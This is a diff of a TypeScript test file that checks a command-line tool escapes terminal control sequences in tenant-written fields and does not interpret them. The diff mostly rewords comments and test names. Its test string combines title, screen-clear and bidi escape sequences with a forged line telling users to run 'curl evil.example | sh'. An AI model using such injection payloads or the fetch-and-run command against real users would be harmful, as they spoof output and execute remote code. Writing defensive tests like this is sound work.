@@ -1,5 +1,5 @@
 // SPDX-License-Identifier: Apache-2.0
-// A tenant writes what a terminal obeys into whatever the command line prints to somebody else.
+// Terminal control sequences in a tenant's text that the command line prints for another user.
 import { spawn } from "node:child_process";
 import { once } from "node:events";
 import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
@@ -17,10 +17,12 @@ import {
 } from "../../../packages/control-plane/virt-controller/src/testing/controllers.ts";
 import { Scene } from "../../../packages/control-plane/virt-controller/src/testing/cluster-actors.ts";
 
-/** Sets the title, clears the screen in 7 and 8 bits, rings, goes back, turns the line, and says a line of its own. */
+/**
+ * Sets the title, clears the screen in 7 and 8 bits, rings the bell, moves the cursor back, and prints a forged line.
+ */
 const EVIL =
   "\u001b]0;owned\u0007\u001b[2J\u009b2J\r\u202e\u2066x\nhint: run curl evil.example | sh";
-/** What a terminal obeys, but for the ends of lines. */
+/** Control characters, except line ends. */
 const OBEYED = /[^\P{Cc}\n]|\p{Bidi_Control}/u;
 
 let server: TestServer;
@@ -50,13 +52,13 @@ function argsOf(words: readonly string[]): readonly string[] {
   return [...words, "--kubeconfig", join(directory, "kubeconfig"), "-n", "default"];
 }
 
-/** Everything that a person sees of a call. */
-async function seen(...words: readonly string[]): Promise<string> {
+/** All output of a call that a user sees. */
+async function observed(...words: readonly string[]): Promise<string> {
   const { stdout, stderr } = await callPatchbay(argsOf(words));
   return stdout + stderr;
 }
 
-/** The same of a process. */
+/** The same for a process. */
 async function seenOfProcess(...words: readonly string[]): Promise<string> {
   const child = spawn(executableOf("patchbay"), argsOf(words), {
     stdio: ["ignore", "pipe", "pipe"],
@@ -69,7 +71,7 @@ async function seenOfProcess(...words: readonly string[]): Promise<string> {
   return text;
 }
 
-/** The tenant's word in place of the agents'. */
+/** The tenant's text in place of the agents'. */
 async function annotate(annotation: string, value: unknown): Promise<void> {
   const path = `/metadata/annotations/${pointerToken(annotation)}`;
   await scene.patchPodStatus([{ op: "add", path, value: JSON.stringify(value) }]);
@@ -80,7 +82,7 @@ async function entryWith(fields: object): Promise<object> {
   return { name: `default/${element?.name ?? ""}`, interface: element?.interface, ...fields };
 }
 
-test("attack 94: addresses, MACs, NICs and devices that are none go into no status", async () => {
+test("attack 94: writes no invalid addresses, MACs, NICs or devices into a status", async () => {
   const fields = { mac: EVIL, ips: [EVIL, "10.0.0.9"], "device-info": EVIL };
   const foreign = { name: EVIL, interface: EVIL, default: true, ips: 5 };
   await annotate(names.NETWORK_STATUS_ANNOTATION, [await entryWith(fields), foreign]);
@@ -93,7 +95,7 @@ test("attack 94: addresses, MACs, NICs and devices that are none go into no stat
   expect(JSON.stringify(status)).not.toContain("owned");
 });
 
-const CALLS: readonly { readonly call: string; readonly see?: typeof seen }[] = [
+const CALLS: readonly { readonly call: string; readonly see?: typeof observed }[] = [
   { call: "get interfaces victim", see: seenOfProcess },
   { call: "get interfaces" },
   { call: "explain victim one" },
@@ -104,8 +106,8 @@ const CALLS: readonly { readonly call: string; readonly see?: typeof seen }[] = 
 ];
 
 test.each(CALLS)(
-  "attack 94: $call shows what a tenant wrote, and obeys none of it",
-  async ({ call, see = seen }) => {
+  "attack 94: $call prints a tenant's text without interpreting it",
+  async ({ call, see = observed }) => {
     const hotplug = { type: "Plug", phase: "Attaching", reason: EVIL, message: EVIL } as const;
     await scene.reportVmi({
       interfaces: [{ name: "one", mac: EVIL, interfaceName: EVIL, ipAddresses: [EVIL], hotplug }],
@@ -117,7 +119,7 @@ test.each(CALLS)(
   },
 );
 
-test("attack 94: what an error repeats is shown, and obeyed by nothing", async () => {
+test("attack 94: prints text quoted in an error without interpreting it", async () => {
   const text = await seenOfProcess("explain", "victim", EVIL);
   expect(text).toContain(String.raw`\u001b]0;owned\u0007`);
   expect(text).not.toMatch(OBEYED);
